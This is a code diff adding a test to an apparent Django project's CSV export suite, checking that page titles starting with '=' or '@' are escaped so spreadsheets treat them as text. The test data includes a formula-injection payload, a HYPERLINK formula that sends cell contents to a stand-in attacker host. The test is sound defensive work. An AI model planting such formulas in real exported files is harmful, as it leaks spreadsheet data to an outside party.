@@ -256,3 +256,13 @@ def test_csv_queries_do_not_grow_with_the_pages(admin_client, locales, django_as
     with django_assert_num_queries(len(small)):
         rows = csv_rows(admin_client)
     assert len(rows) > 1500
+
+
+def test_the_csv_neutralises_formulas_in_titles(admin_client, users):
+    """A page title a spreadsheet would run (`=HYPERLINK(…)`) is exported as text."""
+    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+    new_source_page(users["editor"], title=hostile)
+    new_source_page(users["editor"], title="@SUM(1+1)")
+    titles = {row["title"] for row in csv_rows(admin_client)}
+    assert "'" + hostile in titles and "'@SUM(1+1)" in titles
+    assert hostile not in titles
